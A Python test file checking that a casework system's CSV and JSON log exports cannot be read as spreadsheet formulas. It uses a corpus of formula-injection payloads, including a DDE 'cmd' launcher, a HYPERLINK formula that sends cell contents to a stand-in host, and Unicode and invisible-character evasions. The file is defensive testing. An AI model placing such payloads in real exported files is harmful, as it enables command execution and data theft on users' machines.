"""Room: tests. No cell of a CSV copy is taken for a formula, whatever stands before it or in it."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import UTC, datetime
from itertools import product

import pytest

from coordination.casework import log_sheet, spreadsheet
from coordination.model.ids import Handle
from coordination.model.oversight import LoggedAct, ShownType

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "=IMPORTXML(CONCAT(A1))",
    "|cmd",
    "%0A=1",
    "－1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    "﹣1",
    "\u22121+1",
    "⁼1+1",
)
BEFORE = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\x0b\x0c",
    "\x1f",
    "\x7f",
    "\u00a0",
    "\u00ad",
    "\u034f",
    "\u061c",
    "\u115f",
    "\u180e",
    "\u2000\u2003",
    "\u200b",
    "\u200e\u202e",
    "\u2028",
    "\u2060",
    "\u2800",
    "\u3000",
    "\u3164",
    "\ufe0f",
    "\ufeff",
    "\uffa0",
    "'",
    '"',
    "\u201c",
    "Ann;",
    "Ann,",
    "Ann\t",
    'Ann";"',
    "Ann|",
    "Ann\n",
    "Ann\r ",
    "Ann; \u200b",
)
CORPUS = [before + formula for before, formula in product(BEFORE, FORMULAS)]
TRIGGERS = "=+-@|%"


def cells_as_cut_by(separator: str, line: str) -> list[str]:
    """How a spreadsheet of some language reads the line."""
    return [cell for row in csv.reader(io.StringIO(line), delimiter=separator) for cell in row]


def would_run(cell: str) -> bool:
    """Whether the first character anybody can see begins a formula."""
    plain = unicodedata.normalize("NFKC", cell)
    seen = [
        letter
        for letter in plain
        if unicodedata.category(letter)[0] not in "ZCM" and letter not in '\u115f\u1160\u2800"\u201c\u201d'
    ]
    return bool(seen) and (seen[0] in TRIGGERS or seen[0] == "\u2212")


def test_the_corpus_is_large() -> None:
    assert len(set(CORPUS)) >= 150
    assert all(would_run(cell) for cell in FORMULAS)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_the_corpus_runs(separator: str) -> None:
    ran = []
    for cell in CORPUS:
        line = spreadsheet.line(["Entry", cell, "after"])
        ran += [(cell, part) for part in cells_as_cut_by(separator, line) if would_run(part)]
    assert ran == []


def test_the_judge_of_this_test_would_see_an_unsafe_cell() -> None:
    """Meta: without the shield, the corpus runs."""
    assert [cell for cell in CORPUS if would_run(cell)]
    plain = io.StringIO()
    csv.writer(plain, quoting=csv.QUOTE_ALL).writerow(["Entry", "Ann;=1+1"])
    assert any(would_run(part) for part in cells_as_cut_by(";", plain.getvalue()))


@pytest.mark.parametrize("cell", ["Ana Brook", "O'Neil-Hart", "Child Protection, North County", "K7F2-9QX1", "", "42"])
def test_ordinary_words_stay_as_they_are(cell: str) -> None:
    assert spreadsheet.safe(cell) == cell


def act(person: str = "Ana Brook") -> LoggedAct:
    return LoggedAct(
        seq=7,
        at=datetime(2026, 11, 21, 15, 0, tzinfo=UTC),
        person=person,
        person_handle=Handle("0" * 32),
        program="Child Protection, North County",
        own=True,
        action="Read a case",
        outcome="Allowed",
        reason="",
        purpose="",
        cases=("K7F2-9QX1",),
        types=(
            ShownType(information_type="Identity", program="Child Protection", authority="Own record", citation="own"),
        ),
    )


def test_csv_names_the_zone_and_says_whether_it_is_whole() -> None:
    rows = list(csv.reader(io.StringIO("".join(log_sheet.csv_lines([act(), act()], "America/Chicago", 3))[1:])))
    assert rows[0] == list(log_sheet.COLUMNS)
    assert rows[1][:3] == ["7", "2026-11-21 09:00:00 CST", "2026-11-21T15:00:00Z"]
    assert rows[3] == [log_sheet.END, "2 entries", "all of them"]
    cut = list(log_sheet.csv_lines([act(), act()], "America/Chicago", 2))
    assert "narrow the log" in cut[-1]


def test_a_name_of_the_roster_cannot_begin_a_formula() -> None:
    (line,) = list(log_sheet.csv_lines([act("=2+5+cmd|' /C calc'!A0")], "UTC", 9))[1:-1]
    assert "\"'=2+5" in line


def test_json_lines_end_with_their_count() -> None:
    *lines, end = (json.loads(line) for line in log_sheet.json_lines([act()], 5))
    assert [line["entry"] for line in lines] == [7]
    assert lines[0]["types"][0]["authority"] == "Own record"
    assert end == {"end": {"entries": 1, "complete": True}}
